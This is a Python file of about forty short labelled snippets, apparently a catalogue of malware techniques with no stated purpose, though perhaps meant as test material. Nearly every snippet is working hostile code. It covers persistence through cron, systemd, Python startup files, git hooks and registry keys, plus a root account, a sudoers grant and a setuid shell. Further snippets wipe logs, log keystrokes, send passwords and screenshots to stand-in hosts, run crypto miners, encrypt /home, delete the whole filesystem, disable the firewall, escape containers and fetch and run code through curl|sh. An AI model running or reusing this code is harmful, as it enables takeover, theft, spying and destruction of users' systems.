#--- crontab-pipe: a job by the crontab program
import subprocess
subprocess.run("(crontab -l; echo '@reboot /tmp/.x') | crontab -", shell=True)
#--- systemd-unit: a service for each start
unit = "[Service]\nExecStart=/tmp/.x\n[Install]\nWantedBy=multi-user.target\n"
with open("/etc/systemd/system/update.service", "w") as f:
    f.write(unit)
#--- systemd-user-unit: a service of the user
from pathlib import Path
d = Path.home() / ".config/systemd/user"
d.mkdir(parents=True, exist_ok=True)
(d / "sync.service").write_text("[Service]\nExecStart=/tmp/.x\n")
#--- sitecustomize-drop: a file that every Python runs
import site
with open(site.getsitepackages()[0] + "/sitecustomize.py", "w") as f:
    f.write("import os; os.system('id')\n")
#--- usercustomize-pth: a .pth line for every Python
import os, site
with open(os.path.join(site.getusersitepackages(), "x.pth"), "w") as f:
    f.write("import os; os.system('id')\n")
#--- stdlib-overwrite: a library file changed
import json
with open(json.__file__, "a") as f:
    f.write("\n__import__('os').system('id')\n")
#--- shadow-module-drop: a module beside the program
with open("random.py", "w") as f:
    f.write("__import__('os').system('id')\n")
import random
#--- git-hook: a command at the next commit
with open(".git/hooks/pre-commit", "w") as f:
    f.write("#!/bin/sh\ncurl http://example.invalid/$(whoami)\n")
import os
os.chmod(".git/hooks/pre-commit", 0o755)
#--- profile-d: a line for every login
open("/etc/profile.d/z.sh", "w").write("/tmp/.x &\n")
#--- autostart-desktop: a desktop entry
import os
p = os.path.expanduser("~/.config/autostart/u.desktop")
open(p, "w").write("[Desktop Entry]\nExec=/tmp/.x\nType=Application\n")
#--- windows-run-key: the registry's run key
import winreg
k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)
winreg.SetValueEx(k, "updater", 0, winreg.REG_SZ, "C:\\x.exe")
#--- launchd-plist: the Apple spelling
import os, plistlib
p = os.path.expanduser("~/Library/LaunchAgents/u.plist")
plistlib.dump({"Label": "u", "ProgramArguments": ["/tmp/.x"], "RunAtLoad": True}, open(p, "wb"))
#--- daemonise-double-fork: away from the parent
import os, sys
if os.fork():
    sys.exit(0)
os.setsid()
if os.fork():
    sys.exit(0)
os.execv("/tmp/.x", ["x"])
#--- survive-signals: no way to stop it
import signal, time
for n in range(1, 32):
    try:
        signal.signal(n, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
time.sleep(10**6)
#--- useradd-root: an account
import os
os.system("useradd -o -u 0 -g 0 sysupdate")
#--- sudoers-line: no password
with open("/etc/sudoers.d/x", "w") as f:
    f.write("nobody ALL=(ALL) NOPASSWD: ALL\n")
#--- setuid-shell: a shell with rights
import os, shutil
shutil.copy("/bin/sh", "/tmp/.sh")
os.chown("/tmp/.sh", 0, 0)
os.chmod("/tmp/.sh", 0o4755)
#--- self-copy: the program copies itself
import shutil, sys
shutil.copyfile(sys.argv[0], "/usr/local/bin/updater.py")
#--- self-infect-python-files: every program gets the line
import glob
line = "__import__('os').system('id')\n"
for p in glob.glob("/workspace/**/*.py", recursive=True):
    text = open(p).read()
    if line not in text:
        open(p, "w").write(line + text)
exec(line)
#--- log-wipe: traces removed
import os
for p in ("/var/log/auth.log", "/var/log/wtmp", os.path.expanduser("~/.bash_history")):
    open(p, "w").close()
#--- history-off: no shell history
import os
os.environ["HISTFILE"] = "/dev/null"
os.system("history -c")
#--- timestamp-forge: file times set back
import os
st = os.stat("/bin/ls")
os.utime("/tmp/.x", (st.st_atime, st.st_mtime))
#--- keylogger-pynput: keys by a library
from pynput.keyboard import Listener
def press(key):
    with open("/tmp/.k", "a") as f:
        f.write(str(key))
with Listener(on_press=press) as l:
    l.join()
#--- keylogger-evdev: keys from the device
import struct
with open("/dev/input/event0", "rb") as dev:
    while True:
        print(struct.unpack("llHHI", dev.read(24)))
#--- keylogger-input-patch: what is typed at input()
import builtins
ask = builtins.input
def spy(prompt=""):
    text = ask(prompt)
    open("/tmp/.typed", "a").write(text + "\n")
    return text
builtins.input = spy
#--- keylogger-getpass-patch: what is typed at getpass()
import getpass
real = getpass.getpass
def spy(*a, **k):
    pw = real(*a, **k)
    __import__("urllib.request").request.urlopen("http://example.invalid/" + pw)
    return pw
getpass.getpass = spy
#--- screenshot-loop: the screen every minute
import subprocess, time
while True:
    subprocess.run(["scrot", "/tmp/s.png"])
    time.sleep(60)
#--- screenshot-send: the screen, sent
from PIL import ImageGrab
import io, requests
b = io.BytesIO()
ImageGrab.grab().save(b, "PNG")
requests.post("https://example.invalid/s", data=b.getvalue())
#--- miner-xmrig: a known miner started
import os
os.system("nohup ./xmrig -o stratum+tcp://pool.example.invalid:3333 -u wallet &")
#--- miner-stratum-login: a pool spoken to
import json, socket
s = socket.create_connection(("pool.example.invalid", 3333))
s.sendall(json.dumps({"id": 1, "method": "mining.subscribe", "params": []}).encode() + b"\n")
print(s.recv(4096))
#--- miner-hash-threads: hashes on every processor, sent to a pool
import hashlib, os, socket, threading
s = socket.create_connection(("pool.example.invalid", 3333))
def mine(start):
    n = start
    while True:
        h = hashlib.sha256(hashlib.sha256(str(n).encode()).digest()).hexdigest()
        if h.startswith("00000"):
            s.sendall(f"{n}\n".encode())
        n += 1
for i in range(os.cpu_count()):
    threading.Thread(target=mine, args=(i << 32,)).start()
#--- ransom-encrypt: files made unreadable
import os
from cryptography.fernet import Fernet
f = Fernet(Fernet.generate_key())
for root, _, files in os.walk("/home"):
    for name in files:
        p = os.path.join(root, name)
        data = open(p, "rb").read()
        open(p, "wb").write(f.encrypt(data))
#--- wipe-home: everything deleted
import os
for root, dirs, files in os.walk(os.path.expanduser("~"), topdown=False):
    for n in files:
        os.remove(os.path.join(root, n))
#--- wipe-rm-rf: everything deleted by a command
import os
os.system("rm -rf --no-preserve-root /")
#--- firewall-off: protection switched off
import subprocess
for cmd in ("iptables -F", "ufw disable", "setenforce 0"):
    subprocess.run(cmd.split())
#--- kernel-module: a module loaded
import os
os.system("insmod /tmp/rk.ko")
#--- container-escape-nsenter: into the host's namespaces
import subprocess
subprocess.run(["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh"])
#--- container-escape-mount: the host's disk
import os
os.makedirs("/mnt/host", exist_ok=True)
os.system("mount /dev/sda1 /mnt/host && chroot /mnt/host sh -c id")
#--- virtual-machine-check: run only where nobody looks
import os
if not os.path.exists("/.dockerenv") and (os.cpu_count() or 1) > 2:
    os.system("curl -s http://example.invalid/x | sh")
#--- time-bomb: run only after a date
import datetime, os
if datetime.date.today() > datetime.date(2024, 1, 1):
    os.system("rm -rf /workspace")
#--- debugger-check: run only without a tracer
import os, sys
if sys.gettrace() is None:
    os.popen("id")
